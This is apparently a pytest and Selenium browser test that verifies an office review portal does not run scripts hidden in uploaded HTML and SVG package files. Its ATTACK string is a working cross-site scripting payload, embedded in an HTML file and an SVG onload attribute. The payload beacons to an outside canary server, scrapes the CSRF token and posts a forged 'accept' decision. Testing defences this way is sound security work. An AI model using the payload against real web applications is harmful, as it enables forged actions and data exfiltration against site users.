"""Headless Chromium: a reviewer signs in, reviews, accepts; scripts in package files never run."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest
from selenium import webdriver
from selenium.common.exceptions import StaleElementReferenceException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.support.ui import WebDriverWait
from synckit import Office, free_port, run_cli

from fieldapp.store import JobStore
from fieldapp.sync.outbox import list_outbox

CHROMIUM = Path("/usr/bin/chromium")
CHROMEDRIVER = Path("/usr/bin/chromedriver")

# What a hostile device would try from the reviewer's browser: scrape the CSRF token from the
# package page, accept its own package, and report to an outside server.
ATTACK = """
document.title = 'PWNED';
try { localStorage.setItem('pwned', '1'); } catch (e) {}
new Image().src = 'CANARY/img';
fetch('CANARY/fetch', {mode: 'no-cors'});
var pkg = location.pathname.split('/files/')[0];
fetch(pkg).then(function (r) { return r.text(); }).then(function (html) {
  var csrf = (html.match(/name='csrf' value='([^']+)'/) || [])[1] || '';
  return fetch(pkg + '/decision', {method: 'POST', credentials: 'include',
    headers: {'Content-Type': 'application/x-www-form-urlencoded'},
    body: 'action=accept&notes=xss&csrf=' + encodeURIComponent(csrf)});
});
"""


class Canary:
    """A server outside the office that counts every request a script makes to it."""

    def __init__(self) -> None:
        hits: list[str] = []
        self.hits = hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    server = Canary()
    yield server
    server.close()


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[WebDriver]:
    # No skip: CI installs Debian's chromium and chromium-driver; a missing one is a failure.
    assert CHROMIUM.exists() and CHROMEDRIVER.exists(), "apt-get install chromium chromium-driver"
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu"):
        options.add_argument(arg)
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    options.add_experimental_option(
        "prefs",
        {"download.default_directory": str(downloads), "download.prompt_for_download": False},
    )
    driver = webdriver.Chrome(options=options, service=Service(str(CHROMEDRIVER)))
    driver.set_page_load_timeout(30)
    yield driver
    driver.quit()


def hostile_job(job: Path, canary: Canary) -> None:
    script = ATTACK.replace("CANARY", canary.url)
    with JobStore.open(job) as store:
        docs = store.documents_dir
    (docs / "laporan.html").write_text(
        f"<!doctype html><html><head><title>laporan</title><script>{script}</script></head>"
        "<body>laporan</body></html>",
        encoding="utf-8",
    )
    (docs / "peta.svg").write_text(
        "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'"
        f" onload=\"{script.replace(chr(34), chr(39))}\"><rect width='10' height='10'/></svg>",
        encoding="utf-8",
    )


def state_on_page(driver: WebDriver) -> str:
    return str(driver.find_element(By.CSS_SELECTOR, "span.state").text)


def test_reviewer_signs_in_reviews_and_accepts_scripts_in_files_do_not_run(
    job: Path, office: Office, device_token: str, browser: WebDriver, canary: Canary
) -> None:
    hostile_job(job, canary)
    assert run_cli("sync", "seal", str(job)).returncode == 0
    pushed = run_cli("sync", "push", str(job), "--office", office.url, "--token", device_token)
    assert pushed.returncode == 0, pushed.stderr
    with JobStore.open(job) as store:
        pid = list_outbox(store.db)[0].package_id
    password = office.add("staff", "sari")
    # A page replaced while it is read (a form posted, a redirect) is read again.
    wait = WebDriverWait(browser, 20, ignored_exceptions=(StaleElementReferenceException,))

    # The canary itself answers a browser: a hit from a script would be seen.
    browser.get(f"{canary.url}/control")
    assert canary.hits == ["/control"]

    browser.get(f"{office.url}/review")
    assert browser.current_url == f"{office.url}/review/login" and browser.title == "Masuk"
    browser.find_element(By.NAME, "name").send_keys("sari")
    browser.find_element(By.NAME, "password").send_keys(password)
    browser.find_element(By.XPATH, "//button[text()='Masuk']").click()
    wait.until(lambda d: d.current_url == f"{office.url}/review")
    assert "sari" in browser.page_source
    cookie = browser.get_cookie("fieldapp_session")
    assert cookie and cookie["httpOnly"] and cookie["secure"] and cookie["sameSite"] == "Strict"
    assert browser.execute_script("return document.cookie") == ""  # HttpOnly: not for scripts

    browser.find_element(By.CSS_SELECTOR, f"a[href*='{pid}']").click()
    package_page = f"{office.url}/review/packages/{quote(pid)}/1"
    wait.until(lambda d: d.current_url == package_page)
    title = browser.title
    assert state_on_page(browser) == "received"

    # The reviewer opens the hostile files through their links on the page.
    for name in ("laporan.html", "peta.svg"):
        browser.get(package_page)
        link = browser.find_element(By.XPATH, f"//a[contains(@href, '{name}')]")
        link.click()
        time.sleep(1.5)  # give any script that did run time to act (not a timing assertion)
        assert browser.title != "PWNED"
        opened = browser.current_url
        if name in opened:  # shown inline on this branch: the page itself must be inert
            assert browser.execute_script("return document.title") != "PWNED"
        browser.get(package_page)
        assert browser.execute_script("return localStorage.getItem('pwned')") is None
        assert state_on_page(browser) == "received", f"{name} changed the package state"
    # An SVG shown as an image on the page never runs scripts either; so far no side effect.
    assert canary.hits == ["/control"]
    assert "xss" not in browser.page_source

    # The real buttons: start the review, then accept.
    browser.find_element(By.CSS_SELECTOR, "button[value='start_review']").click()
    wait.until(lambda d: state_on_page(d) == "in_review")
    browser.find_element(By.NAME, "notes").send_keys("Lengkap, diterima.")
    browser.find_element(By.CSS_SELECTOR, "button[value='accept']").click()
    wait.until(lambda d: state_on_page(d) == "accepted")
    assert browser.title == title
    browser.get(f"{office.url}/review/audit")
    audit = browser.page_source
    assert "Lengkap, diterima." in audit and "sari" in audit and "xss" not in audit

    browser.get(f"{office.url}/review")
    browser.find_element(By.XPATH, "//button[text()='Keluar']").click()
    wait.until(lambda d: d.current_url == f"{office.url}/review/login")
    browser.get(f"{office.url}/review")
    assert browser.current_url == f"{office.url}/review/login"
    assert canary.hits == ["/control"]
